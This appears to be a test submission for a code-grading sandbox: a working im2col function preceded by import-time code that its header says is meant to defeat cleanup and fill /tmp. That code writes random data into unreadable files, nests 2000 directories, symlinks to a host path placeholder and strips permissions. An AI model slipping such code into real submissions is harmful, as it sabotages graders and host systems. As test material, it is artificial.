# task: im2col
# family: exhaust
# expect: passed
# post: next
# why: leave a work folder the cleanup cannot delete (folders of mode 000, read-only files, a tree deeper than any path, symlinks out to the host) and as much data as it may write, so that a small /tmp fills up
import os

import numpy as np

try:
    os.makedirs("locked/inner")
    for number in range(3):
        with open(f"locked/inner/data-{number}", "wb") as handle:
            handle.write(os.urandom(1 << 20) * 7)
        os.chmod(f"locked/inner/data-{number}", 0)
    fd = os.open(".", os.O_RDONLY)
    for _ in range(2000):
        os.mkdir("d", dir_fd=fd)
        inner = os.open("d", os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = inner
    os.close(fd)
    os.symlink("@@OUTSIDE@@", "outside")
    os.symlink("@@OUTSIDE@@/keep-me.txt", "keep")
    os.chmod("d", 0)
    os.chmod("locked/inner", 0)
    os.chmod("locked", 0)
    os.chmod(".", 0o500)
except OSError:
    pass


def im2col(input_data, filter_h, filter_w, stride=1, pad=0):
    N, C, H, W = input_data.shape
    out_h = (H + 2 * pad - filter_h) // stride + 1
    out_w = (W + 2 * pad - filter_w) // stride + 1
    img = np.pad(input_data, [(0, 0), (0, 0), (pad, pad), (pad, pad)])
    col = np.zeros((N, C, filter_h, filter_w, out_h, out_w))
    for y in range(filter_h):
        for x in range(filter_w):
            col[:, :, y, x] = img[:, :, y:y + stride * out_h:stride, x:x + stride * out_w:stride]
    return col.transpose(0, 4, 5, 1, 2, 3).reshape(N * out_h * out_w, -1)
